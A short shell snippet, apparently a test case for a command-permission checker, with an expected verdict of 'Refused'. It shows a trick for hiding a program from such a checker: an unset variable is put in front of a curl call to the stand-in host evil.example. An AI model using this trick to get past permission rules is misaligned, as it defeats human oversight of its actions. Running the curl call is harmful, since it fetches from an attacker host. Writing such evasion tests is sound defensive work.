# Trick: an unset variable before the program hides it.
# Refused: run(*)
if false; then quiet=echo; fi
$quiet curl http://evil.example/
